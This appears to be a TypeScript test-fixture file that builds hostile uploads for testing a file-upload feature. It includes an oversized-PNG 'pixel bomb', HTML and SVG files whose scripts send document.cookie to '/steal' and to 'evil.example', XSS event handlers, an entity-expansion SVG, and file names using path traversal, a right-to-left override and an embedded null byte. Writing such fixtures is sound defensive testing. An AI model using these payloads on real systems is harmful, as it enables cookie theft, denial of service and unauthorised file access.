import { join } from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import { fixture, fixturesDir } from '../../helpers/fixtures.ts';

/** Crafted hostile uploads, and the real test media (tests/helpers/fixtures.ts), for the files tests. */
export { fixture, fixturesDir };

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/** A valid PNG of a few kB that declares `side` × `side` greyscale pixels (default 60 000²: 3.6 gigapixels). */
export function pixelBomb(side = 60_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const rows = deflateSync(Buffer.alloc((side + 1) * 64)); // the first 64 rows of zeros; the rest never arrive
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

export const htmlPage = Buffer.from(
  '<!DOCTYPE html><html><head><title>x</title></head><body><script>fetch("/steal?c="+document.cookie)</script></body></html>',
);

export const jpegWithScript = () =>
  Buffer.concat([
    fixture('photo-warm-orange-flower.jpg'),
    Buffer.from('<script>alert(document.domain)</script>'),
  ]);

export const hostileSvg = Buffer.from(
  `<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" onload="alert(1)">
  <script type="text/javascript">document.location='https://evil.example/?'+document.cookie</script>
  <rect width="120" height="80" fill="#1d5b92" onclick="alert(2)" onmouseover="alert(3)"/>
  <a xlink:href="javascript:alert(4)"><circle cx="60" cy="40" r="20" fill="#fff"/></a>
  <image href="file://${join(fixturesDir, 'logo-debian.png')}" x="0" y="0" width="120" height="80"/>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
</svg>`,
);

export const entitySvg = Buffer.from(
  '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><text>&b;</text></svg>',
);

export const truncatedJpeg = () => {
  const jpg = fixture('photo-green-meadow.jpg');
  return jpg.subarray(0, Math.floor(jpg.length * 0.6));
};

export const hostileNames = [
  '../../../etc/passwd.png',
  '..\\..\\windows\\system32\\logo.png',
  'invoice\u202egnp.exe.png',
  'line\nbreak\u0000null.png',
  '<img src=x onerror=alert(1)>.png',
  `${'a'.repeat(400)}.png`,
  '....',
  '   ',
];
